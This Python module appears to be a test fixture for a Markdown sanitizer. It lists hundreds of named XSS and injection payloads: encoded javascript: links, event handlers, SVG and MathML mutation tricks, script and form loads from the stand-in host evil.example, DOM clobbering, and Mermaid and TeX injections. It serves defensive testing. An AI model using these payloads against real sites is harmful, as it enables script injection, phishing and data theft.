"""What a hostile contributor may try, by the name of the trick.

Each payload is a piece of Markdown. None may run a script, restyle the page, submit a form,
load anything but an https image, take an id that is not its own, or pass for a part of the
site. `alert(1)` stands for any script, `evil.example` for any other origin.
"""

# ruff: noqa: E501 - a payload stands on one line

from typing import Final

_SCHEMES: Final = {
    "plain": "javascript:alert(1)",
    "upper case": "JAVASCRIPT:alert(1)",
    "mixed case": "jAvAsCrIpT:alert(1)",
    "leading space": " javascript:alert(1)",
    "leading control": "\x01javascript:alert(1)",
    "tab inside": "java\tscript:alert(1)",
    "newline inside": "java\nscript:alert(1)",
    "return inside": "java\rscript:alert(1)",
    "nul inside": "java\x00script:alert(1)",
    "decimal entity": "&#106;avascript:alert(1)",
    "long decimal entity": "&#0000106avascript:alert(1)",
    "hex entity": "&#x6A;avascript:alert(1)",
    "hex entity without semicolon": "&#x6Aavascript:alert(1)",
    "tab entity": "java&Tab;script:alert(1)",
    "newline entity": "java&NewLine;script:alert(1)",
    "colon entity": "javascript&colon;alert(1)",
    "percent": "javascript%3Aalert(1)",
    "comment and newline": "javascript://evil.example/%0Aalert(1)",
    "vbscript": "vbscript:msgbox(1)",
    "livescript": "livescript:alert(1)",
    "mocha": "mocha:alert(1)",
    "data html": "data:text/html,<script>alert(1)</script>",
    "data base64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data svg": "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "file": "file:///etc/passwd",
    "blob": "blob:https://evil.example/1",
    "view-source": "view-source:javascript:alert(1)",
    "feed": "feed:javascript:alert(1)",
    "ideographic colon": "javascript\uff1aalert(1)",
}

_LINKS: Final = {
    **{f"link, {name}": f'<a href="{value}">x</a>' for name, value in _SCHEMES.items()},
    **{f"markdown link, {name}": f"[x](<{value}>)" for name, value in _SCHEMES.items()},
    "reference link": "[x]\n\n[x]: javascript:alert(1)",
    "autolink": "<javascript:alert(1)>",
    "image link": "[![x](https://example.com/x.png)](javascript:alert(1))",
    "title breaks out": "[x](https://example.com 'a\" onmouseover=\"alert(1)')",
    "target breaks out": '[x](https://example.com/"onmouseover="alert\\(1\\))',
    "alt breaks out": '![x" onerror="alert(1)](x.png)',
    "alt of markup": "![<script>alert(1)</script>](x.png)",
    "named window": '<a href="https://evil.example" target="_top" rel="opener">x</a>',
    "ping": '<a href="https://example.com" ping="https://evil.example">x</a>',
    "download": '<a href="x.md" download="x.exe">x</a>',
    "svg link": '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    "footnote back": '<a class="footnote-backref" href="javascript:alert(1)">x</a>[^1]\n\n[^1]: x',
}

_SCRIPTS: Final = {
    "script": "<script>alert(1)</script>",
    "script upper case": "<SCRIPT>alert(1)</SCRIPT>",
    "script with a slash": "<script/x>alert(1)</script>",
    "script from elsewhere": '<script src="https://evil.example/x.js"></script>',
    "script without end": "<script>alert(1)",
    "script in script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script module": '<script type="module">import "https://evil.example/x.js"</script>',
    "script in a list": "- <script>alert(1)</script>",
    "script in a table": "| a |\n|---|\n| <script>alert(1)</script> |",
    "script in a heading": "## <script>alert(1)</script>",
    "script in a note": "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "script in an alert": "> [!NOTE]\n> <script>alert(1)</script>",
    "script in details": "<details><summary><script>alert(1)</script></summary>x</details>",
    "script behind a comment": "<!--><script>alert(1)</script>-->",
    "script behind a bang comment": "<!-- --!><script>alert(1)</script> -->",
    "script in CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "script in a processing instruction": "<?xml <script>alert(1)</script> ?>",
    "script in a declaration": "<!ELEMENT <script>alert(1)</script>>",
    "marked section": "<![x]>\n\n<script>alert(1)</script>",
    "JSON configuration": '<script id="__config" type="application/json">{"base":"//evil.example"}</script>',
    "template": "<template><script>alert(1)</script></template>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "entity script": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "twice encoded script": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
}

_HANDLERS: Final = {
    f"handler, {markup.split()[0].strip('<')} {handler}": markup.format(handler)
    for markup in ("<img src=x {}=alert(1)>", '<b {}="alert(1)">x</b>')
    for handler in [
        "onerror",
        "onload",
        "onclick",
        "onmouseover",
        "onfocus",
        "onanimationstart",
        "ontoggle",
        "onpointerenter",
        "onbeforeinput",
        "ONERROR",
        "oNcLiCk",
    ]
} | {
    "handler behind a slash": "<img/src=x/onerror=alert(1)>",
    "handler in backticks": "<img src=`x` onerror=alert(1)>",
    "handler behind a quote": "<img src='x'onerror=alert(1)>",
    "handler in a broken tag": '<img """><script>alert(1)</script>">',
    "handler on details": "<details open ontoggle=alert(1)>x</details>",
    "handler on a check box": "- <input type=checkbox autofocus onfocus=alert(1)> x",
    "handler on an unknown tag": "<x onclick=alert(1)>x</x>",
    "handler on a custom element": "<x-y onfocus=alert(1) tabindex=0 autofocus>x</x-y>",
    "handler on a body": "<body onload=alert(1)>x",
    "handler in attribute lists": "## T { .x onclick=alert(1) }",
    "attribute list": "x\n{: onclick=alert(1) style=position:fixed }",
    "handler in a language": '```" onclick="alert(1)\nx\n```',
    "markup in a language": "```<script>alert(1)</script>\nx\n```",
    "handler with a form feed": "<img src=x\x0conerror=alert(1)>",
    "handler with a no-break space": "<b\u00a0onclick=alert(1)>x</b>",
}

_FOREIGN: Final = {
    "svg": "<svg onload=alert(1)></svg>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg script by reference": '<svg><script href="data:,alert(1)"/></svg>',
    "svg animate": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>',
    "svg set": '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    "svg foreignObject": "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "svg use": '<svg><use href="https://evil.example/x.svg#x"/></svg>',
    "svg style": "<svg><style>*{display:none}</style></svg>",
    "svg image": '<svg><image href="http://evil.example/x.png"/></svg>',
    "svg title breaks out": "<svg><title><p></title><img src=x onerror=alert(1)></svg>",
    "mathml": "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "mathml link": '<math href="javascript:alert(1)">x</math>',
    "mutation, mglyph": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "mutation, form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "mutation, svg style": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "mutation, namespace": "<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style></p></svg>",
    "mutation, noscript": '<noscript><style></noscript><img src=x onerror="alert(1)"></style>',
    "mutation, select": "<select><template><img src=x onerror=alert(1)></template></select>",
    "mutation, xmp": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "mutation, textarea": "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "mutation, listing": "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "mutation, plaintext": "<plaintext><img src=x onerror=alert(1)>",
    "mutation, nesting": "<b><table><i><svg><style><b title='</style><img src=x onerror=alert(1)>'>",
    "mutation, annotation": "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
}

_LOADS: Final = {
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "applet": '<applet code="x" archive="https://evil.example/x.jar"></applet>',
    "video": '<video src="https://evil.example/x.mp4" autoplay poster="https://evil.example/x.png">',
    "audio": '<audio src="https://evil.example/x.mp3" autoplay onloadstart=alert(1)>',
    "track": '<video><track src="https://evil.example/x.vtt"></video>',
    "source": '<picture><source srcset="http://evil.example/x.png"><img src="x.png"></picture>',
    "source, second address": '<picture><source media="(prefers-color-scheme: dark)" srcset="x.png, http://evil.example/x.png 2x"><img src="x.png"></picture>',
    "srcset": '<img src="x.png" srcset="http://evil.example/x.png 2x">',
    "image over http": "![x](http://evil.example/x.png)",
    "image without a scheme": "![x](//evil.example/x.png)",
    "image with backslashes": '<img src="\\\\evil.example\\x.png">',
    "image by data": "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "image by ftp": "![x](ftp://evil.example/x.png)",
    "image by file": "![x](file:///etc/passwd)",
    "image by javascript": "![x](javascript:alert(1))",
    "image lowsrc": '<img src="x.png" lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
    "input image": '<input type="image" src="http://evil.example/x.png" onerror=alert(1)>',
    "background": '<table background="http://evil.example/x.png"><tr><td>x</td></tr></table>',
    "style sheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "preload": '<link rel="preload" as="script" href="https://evil.example/x.js">',
    "import": "<style>@import 'https://evil.example/x.css';</style>",
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "policy": '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "base": '<base href="https://evil.example/">',
    "frameset": '<frameset><frame src="https://evil.example"></frameset>',
    "portal": '<portal src="https://evil.example"></portal>',
    "manifest": '<html manifest="https://evil.example/x"><p>x</p></html>',
    "quotation source": '<blockquote cite="javascript:alert(1)">x</blockquote>',
}

_FORMS: Final = {
    "form": '<form action="https://evil.example"><input name=p><button>Sign in</button></form>',
    "button": '<button formaction="javascript:alert(1)" form="x">x</button>',
    "text field": '<input type="text" name="password" autofocus>',
    "password field": '<input type="password">',
    "submit": '<input type="submit" formaction="https://evil.example">',
    "select": "<select onfocus=alert(1) autofocus><option>x</select>",
    "text area": "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "enabled box": '- <input type="checkbox" name="x" form="search"> x',
    "label for the drawer": '<label for="__drawer">Everything</label>',
    "keygen": "<keygen autofocus onfocus=alert(1)>",
    "dialog": "<dialog open>Session over</dialog>",
    "popover": '<div popover id="p">x</div><button popovertarget="p">x</button>',
    "editable": "<div contenteditable autofocus>x</div>",
    "access key": '<a href="https://evil.example" accesskey="s" tabindex="1">x</a>',
}

_DISGUISES: Final = {
    "badge": '<span class="sep-badge sep-badge--final">Final</span>',
    "banner": '<div class="sep-banner">Accepted</div>',
    "picture": '<picture><source media="(prefers-color-scheme: dark)" srcset="javascript:alert(1)"'
    ' onload="alert(1)"><img src="x.png"></picture>',
    "source": '<source srcset="javascript:alert(1)" src="https://evil.example/x.mp4">',
    "srcset": '<img src="x.png" srcset="https://evil.example/x.png 2x">',
    "reference": '<a class="sep-ref" href="https://evil.example">SEP-1</a>',
    "figure": '<figure class="sep-diagram"><pre>x</pre></figure>',
    "admonition": '<div class="admonition danger"><p class="admonition-title">Site</p></div>',
    "header": '<header class="md-header">x</header>',
    "overlay": '<div style="position:fixed;inset:0;background:#fff">x</div>',
    "style expression": '<b style="width:expression(alert(1))">x</b>',
    "style image": '<b style="background:url(http://evil.example/x.png)">x</b>',
    "style binding": '<b style="-moz-binding:url(http://evil.example/x.xml#x)">x</b>',
    "style element": "<style>.md-content{display:none}</style>",
    "font": '<font color="#fff" size="7" face="x">x</font>',
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "slot": '<div slot="x" part="y" is="z">x</div>',
    "aria": '<div role="alert" aria-live="assertive" aria-label="x">x</div>',
    "data hook": '<div data-md-component="announce" data-md-toggle="drawer">x</div>',
    "search exclusion": '<div data-search-exclude data-md-color-scheme="slate">x</div>',
    "table of contents label": '## x\n\n<h2 data-toc-label="<script>alert(1)</script>">y</h2>',
    "footnote classes": '<section class="footnotes sep-banner" data-footnotes>x</section>',
}

_IDS: Final = {
    "id of the configuration": '<a id="__config">{"base":"//evil.example"}</a>',
    "id of the search": '<input type=checkbox id="__search"><p id="__search">x</p>',
    "heading of the configuration": "## __config",
    "heading of the drawer": "## __drawer",
    "heading with an id": '<h2 id="__toc">x</h2>',
    "clobbered document": '<img name="getElementById"><img id="body" name="cookie">',
    "clobbered element": '<a id="x"></a><a id="x" name="y" href="javascript:alert(1)">x</a>',
    "clobbered form": '<form id="x"><input name="attributes"></form>',
    "shadowed heading": '<a id="abstract"></a>\n\n## Abstract',
    "shadowed heading by prefix": '## User content x\n\n<a id="x">x</a>',
    "shadowed by a note": "## fn 1\n\nx[^1]\n\n[^1]: x",
    "id with spaces": '<p id="a b __config">x</p>',
}

_PLACEHOLDERS: Final = {
    "stash": "\x02wzxhzdk:0\x03\n\n```\ncode\n```",
    "stash by entity": "&#2;wzxhzdk:0&#3;\n\n```\ncode\n```",
    "stash by hex entity": "&#x2;wzxhzdk:0&#x3;\n\n```html\n<script>alert(1)</script>\n```",
    "inline stash": "\x02klzzwxh:0000\x03 `code`",
    "ampersand": "\x02amp\x03lt;script\x02amp\x03gt;",
    "ampersand by entity": "&#2;amp&#3;lt;script&#2;amp&#3;gt;",
    "stash in a title": '[x](https://example.com "&#2;wzxhzdk:0&#3;")\n\n```\n" onclick=alert(1)\n```',
    "stash in an address": '[x](https://example.com/\x02wzxhzdk:0\x03)\n\n```\n" onclick=alert(1)\n```',
    "escaped character": "\x0260\x03script\x0262\x03",
    "entity look-alike": "`&lt;script&gt;` &amp;lt;script&amp;gt; `&#60;script&#62;`",
    "slot": "<!-- seps:table -->",
    "template markup": "{{ config }} {% raw %} {# x #}",
}

_DIAGRAMS: Final = {
    f"diagram, {name}": f"```mermaid\n{source}\n```"
    for name, source in {
        "click": 'flowchart LR\n A --> B\n click A href "javascript:alert(1)"',
        "callback": 'flowchart LR\n A --> B\n click A call alert(1) "x"',
        "link": 'flowchart LR\n A --> B\n click A "https://evil.example" _top',
        "label": 'flowchart LR\n A["<img src=x onerror=alert(1)>"] --> B',
        "label script": 'flowchart LR\n A["<script>alert(1)</script>"] --> B',
        "label svg": 'flowchart LR\n A["</text><script>alert(1)</script>"] --> B',
        "message": "sequenceDiagram\n A->>B: <iframe src=javascript:alert(1)></iframe>",
        "actor": "sequenceDiagram\n participant A as <b onclick=alert(1)>x</b>\n A->>A: x",
        "menu": "sequenceDiagram\n participant A\n link A: x @ javascript:alert(1)\n A->>A: x",
        "style": "flowchart LR\n A --> B\n style A fill:url(http://evil.example/x),stroke:#f00",
        "class": "flowchart LR\n A:::x --> B\n classDef x fill:#f00,background:url(//evil.example)",
        "theme": '%%{init: {"theme":"base","themeCSS":"*{display:none}@import \\"//evil.example\\""}}%%\nflowchart LR\n A --> B',
        "font": '%%{init: {"fontFamily":"x;}*{background:url(//evil.example)}"}}%%\nflowchart LR\n A --> B',
        "loose": '%%{init: {"securityLevel":"loose","htmlLabels":true}}%%\nflowchart LR\n A["<img src=x onerror=alert(1)>"]',
        "image": 'flowchart LR\n A@{ img: "http://evil.example/x.png", label: "x" }',
        "icon": 'flowchart LR\n A@{ icon: "fa:bell", label: "x" }',
        "title": "---\ntitle: </title><script>alert(1)</script>\n---\nflowchart LR\n A --> B",
        "description": 'flowchart LR\n accTitle: <script>alert(1)</script>\n accDescr: "x"\n A --> B',
        "id": "flowchart LR\n __config[x] --> body[y]",
        "mathematics": 'flowchart LR\n A["$$\\href{javascript:alert(1)}{x}$$"]',
        "class link": 'classDiagram\n class A\n link A "javascript:alert(1)"',
        "gantt": 'gantt\n dateFormat YYYY-MM-DD\n section S\n T :a, 2024-01-01, 1d\n click a href "javascript:alert(1)"',
        "not a diagram": "<script>alert(1)</script>",
        "endless": "flowchart LR\n" + "\n".join(f" A{n} --> A{n + 1}" for n in range(200)),
    }.items()
}  # fmt: skip

_FORMULAS: Final = {
    f"formula, {name}": f"$`{tex}`$\n\n```math\n{tex}\n```"
    for name, tex in {
        "link": r"\href{javascript:alert(1)}{x}",
        "address": r"\url{javascript:alert(1)}",
        "class": r"\class{sep-badge}{x}",
        "id": r"\cssId{__config}{x}",
        "style": r"\style{position:fixed}{x}",
        "data": r"\data{x=y}{z}",
        "image": r"\includegraphics[height=1em]{http://evil.example/x.png}",
        "label": r"\begin{equation}x\label{__config}\end{equation}\ref{__config}",
        "tag": r"x<img src=x onerror=alert(1)>",
        "text": r"\text{<script>alert(1)</script>}",
        "annotation": r"x</annotation></semantics></math><script>alert(1)</script>",
        "entity": r"&lt;script&gt; \text{&lt;img src=x onerror=alert(1)&gt;}",
        "name": r"\operatorname{<b>x</b>}",
        "color": r"\color{red;background:url(//evil.example)}x",
        "space": r"\hspace{99999999em}\kern-9999em\raisebox{9999em}{x}",
        "bomb": r"\def\a{\b\b}\def\b{\a\a}\a",
        "depth": r"\sqrt{" * 5000 + "}" * 5000,
        "size": "x^2+" * 5000,
        "stash": "\x02wzxhzdk:0\x03",
    }.items()
} | {
    "formula, code in a tag": '$<code onclick="alert(1)">x</code>$',
    "formula, picture": "<picture><source srcset='javascript:alert(1)' media='(prefers-color-scheme: dark)'><img src=x alt='$x$'></picture>",
    "emoji, markup": ':<b onclick=alert(1)>x</b>: :rocket<script>: :+1" onclick=alert(1):',
}  # fmt: skip

PAYLOADS: Final = (
    _LINKS
    | _SCRIPTS
    | _HANDLERS
    | _FOREIGN
    | _LOADS
    | _FORMS
    | _DISGUISES
    | _IDS
    | _PLACEHOLDERS
    | _DIAGRAMS
    | _FORMULAS
)
